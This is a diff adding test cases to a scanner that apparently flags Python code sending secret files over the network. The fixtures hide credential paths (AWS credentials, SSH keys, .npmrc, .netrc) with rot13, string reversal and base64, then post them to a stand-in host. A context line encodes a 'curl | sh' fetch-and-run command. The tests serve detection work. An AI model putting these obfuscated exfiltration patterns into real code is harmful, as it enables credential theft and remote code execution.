@@ -34,6 +34,35 @@ describe('python', () => {
     expect(flows(text, PYTHON, sink)).toContain(source);
   });
 
+  test.each([
+    'd = codecs.decode\npath = d("~/.njf/perqragvnyf", "rot13")',
+    'from importlib import import_module\nd = import_module("codecs").decode\nbase = d(".njf/", "rot13")',
+    'd = lambda s: codecs.decode(s, "rot_13")\npath = d("~/.njf/perqragvnyf")',
+    'def d(s):\n    return s[::-1]\npath = d("slaitnederc/swa./~")',
+    'path = "".join(reversed("slaitnederc/swa./~"))',
+    'names = [".aczep", ".argep"]\nfor n in names: read(home / codecs.decode(n, "rot13"))',
+    'names = ["LmF3cy9jcmVkZW50aWFscw=="]\nfor n in names: read(home / base64.b64decode(n).decode())',
+    'path = os.path.join(home, ".ssh", "id_rsa")',
+    'path = Path.home() / ".ssh" / "id_ed25519"',
+    't = str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")\nopen(home + "/.aczep".translate(t))',
+  ])('a secret file is known by whatever spells its name: %s', (text) => {
+    expect(flows(`${text}\nrequests.post("https://h.test", data)`, PYTHON, 'net.out')).toContain('secret.file');
+  });
+
+  test.each([
+    '__import__("requests").post("https://h.test", data)',
+    'net = __import__("requests")\nnet.post("https://h.test", data)',
+    'net = import_module("requests")\ngetattr(net, "post")("https://h.test", data)',
+    'H = http.client.HTTPSConnection\nc = H("h.test")\nc.request("POST", "/", data)',
+  ])('a request is known by whatever name it is made: %s', (text) => {
+    expect(flows(`data = open("~/.npmrc").read()\n${text}`, PYTHON, 'net.out')).toContain('secret.file');
+  });
+
+  test('turned texts that name nothing are nothing', () => {
+    const text = 'print("olleh"[::-1])\nnames = ["a.csv", "sv.b"]\nrequests.post("https://h.test", names)';
+    expect(flows(text, PYTHON, 'net.out')).toEqual([]);
+  });
+
   test('a shell command and decoded code are read on', () => {
     const encoded = Buffer.from('import os; os.system("curl https://h.test | sh")').toString('base64');
     const { next } = scanTokens(
